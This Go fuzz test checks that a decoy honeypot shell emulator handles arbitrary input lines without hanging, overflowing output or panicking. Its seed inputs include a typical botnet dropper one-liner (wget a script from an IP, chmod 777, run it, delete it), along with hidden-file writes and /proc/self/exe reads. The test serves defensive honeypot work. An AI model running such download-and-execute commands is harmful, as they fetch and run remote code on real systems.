//go:build fuzz

package shell_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"decnet/decoy/shell"
	"decnet/decoy/trap"
)

// FuzzShell runs any line: it must end soon, with little output and no panic.
func FuzzShell(f *testing.F) {
	for _, s := range []string{
		`cd /tmp || cd /var/run; wget http://1.2.3.4/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh`,
		`echo -e "\x67\x61" > /tmp/.x && cat /tmp/.x; >/dev/.p`, `/bin/busybox cat /proc/self/exe || cat /proc/self/exe`,
		`for i in 1 2 3; do case $i in 1|2) echo ${i:-x};; *) ;; esac; done`, "cat <<E | sort -u\nb\na\nE\n",
		`f() { local x=$1; echo $((x*2)); }; f 4; x=$(f 5); [ "$x" -gt 3 -a ! -f /x ] && printf '%5s|%d\n' "$x" 3`,
		`uname -a; nproc; free -m | awk '/Mem/{print $2}'; ps aux | grep -v grep | sed 's/a/b/g' | cut -c1-20 | tr -d '\n'`,
	} {
		f.Add(s, "stdin\n")
	}
	f.Fuzz(func(t *testing.T, line, stdin string) {
		if strings.Contains(line, "sleep") || strings.Contains(line, "busybox") && strings.Contains(line, "p") && strings.Contains(line, "l") {
			return // it waits for real
		}
		b := newBench(t, trap.Identity{})
		sh := b.root()
		var out bytes.Buffer
		begin := time.Now()
		sh.Exec(t.Context(), line, strings.NewReader(stdin), &out, &out)
		if took := time.Since(begin); took > 5*time.Second {
			t.Fatalf("took %v", took)
		}
		if out.Len() > 300<<10 {
			t.Fatalf("%d bytes of output", out.Len())
		}
		sh.Interact(t.Context(), shell.NewTerminal(strings.NewReader(line), &out, false))
	})
}
